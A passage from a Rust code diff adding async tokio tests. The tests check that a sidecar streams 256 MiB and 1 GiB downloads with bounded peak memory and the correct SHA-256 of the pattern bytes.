+    assert_eq!(got, pattern_sha256(bytes), "downloaded bytes");
+    let hwm_mib = h.sidecar.vm_hwm_kib() / 1024;
+    assert!(
+        hwm_mib < max_hwm_mib,
+        "sidecar peak RSS {hwm_mib} MiB while streaming {bytes} bytes"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn download_256mib_streams_with_bounded_memory() {
+    download_bounded(256 << 20, 200).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn download_1gib_streams_with_bounded_memory() {
+    download_bounded(1 << 30, 200).await;
+}
